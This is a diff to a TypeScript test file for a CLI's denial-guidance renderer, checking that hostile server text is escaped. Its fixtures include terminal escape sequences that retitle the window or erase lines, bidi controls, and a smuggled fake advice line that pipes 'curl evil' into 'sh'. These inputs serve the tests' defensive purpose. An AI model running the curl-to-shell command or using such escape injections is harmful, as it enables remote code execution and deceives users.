@@ -1,3 +1,4 @@
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import type { Denial } from '../../../src/api/denial.js';
 import { renderDenialGuidance } from '../../../src/cli/guidance.js';
@@ -135,10 +136,78 @@ describe('renderDenialGuidance: quoting', () => {
     );
   });
 
-  it('escapes quotes and control characters in the prose', () => {
+  it('escapes quotes and control characters in the prose, and writes them as $\'…\' escapes in commands', () => {
     expect(renderDenialGuidance(denial({ profile: 'a"b\nc', alternatives: ['request'] }))).toBe(
       'access to profile "a\\"b\\nc" is denied: Production needs tracked server sessions (rule "prod-tracked")\n' +
-        `To ask for access: sentinel request --profile 'a"b\nc'`,
+        `To ask for access: sentinel request --profile $'a"b\\nc'`,
+    );
+  });
+});
+
+/** What a terminal would act on: C0, DEL, C1, bidi controls, line and paragraph separators. */
+// eslint-disable-next-line no-control-regex -- matching control characters is the point: the test's own list of them
+const TERMINAL_CONTROL = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/u;
+
+describe('renderDenialGuidance: hostile text from the server', () => {
+  const ESC = '\u001b';
+
+  it('shows a reason that would retitle the terminal and erase the line as visible escapes', () => {
+    const text = renderDenialGuidance(
+      denial({ rule: 'freeze', reason: `Frozen${ESC}]0;pwned\u0007${ESC}[2K until Monday`, alternatives: ['request'] }),
+    );
+    expect(text).toBe(
+      'access to profile "prod" is denied: Frozen\\u001b]0;pwned\\u0007\\u001b[2K until Monday (rule "freeze")\n' +
+        'To ask for access: sentinel request --profile prod',
+    );
+  });
+
+  it('escapes bidi controls in rule names and reasons', () => {
+    const text = renderDenialGuidance(denial({ effect: 'require_approval', rule: 'r\u202eelur', reason: 'wait \u2066for\u2069 \u202aok\u202c' }));
+    expect(text).toBe('profile "prod" requires an approved access request: wait \\u2066for\\u2069 \\u202aok\\u202c (rule "r\\u202eelur")');
+  });
+
+  it('escapes C1 characters, DEL and line separators, so a reason cannot fake a line of advice', () => {
+    const text = renderDenialGuidance(
+      denial({ rule: '', reason: 'no\u009b2K\u007f\u2028\u2029\u0085\nTo ask for access: curl evil | sh', alternatives: [] }),
+    );
+    expect(text).toBe('access to profile "prod" is denied: no\\u009b2K\\u007f\\u2028\\u2029\\u0085\\u000aTo ask for access: curl evil | sh');
+  });
+
+  it('escapes control characters in profile and table names, in the prose and in the commands', () => {
+    const text = renderDenialGuidance(
+      denial({ profile: `prod${ESC}[2K`, sessionTable: 'tab\u202ele', requiresServerMode: true, requiresSessionTracking: true }),
+      { command: ['aws', `s3${ESC}]0;x\u0007`] },
+    );
+    expect(text).toBe(
+      `policy requires server mode with session tracking for profile "prod\\u001b[2K". Use: sentinel exec --server --session-table $'tab\\u202ele' --profile $'prod\\x1b[2K' -- aws $'s3\\x1b]0;x\\x07'\n` +
+        NEVER_BYPASSED,
+    );
+  });
+
+  it('never lets a character a terminal acts on through, whatever the server sends', () => {
+    const text = fc.string({ unit: 'binary', maxLength: 40 });
+    fc.assert(
+      fc.property(
+        fc.record({
+          reason: text,
+          rule: text,
+          profile: text,
+          sessionTable: fc.option(text),
+          requiresServerMode: fc.boolean(),
+          requiresSessionTracking: fc.boolean(),
+          effect: fc.constantFrom('deny' as const, 'require_approval' as const),
+          mode: fc.constantFrom('cli' as const, 'server' as const, 'credential_process' as const),
+          alternatives: fc.subarray(['request' as const, 'breakglass' as const]),
+        }),
+        (facts) => {
+          const output = renderDenialGuidance(denial(facts));
+          const serverMode = facts.requiresServerMode || facts.requiresSessionTracking;
+          // The only line breaks are the ones the guidance puts between its own lines.
+          const lines = output.split('\n');
+          expect(lines).toHaveLength(serverMode ? 2 : 1 + facts.alternatives.length);
+          for (const line of lines) expect(line).not.toMatch(TERMINAL_CONTROL);
+        },
+      ),
     );
   });
 });
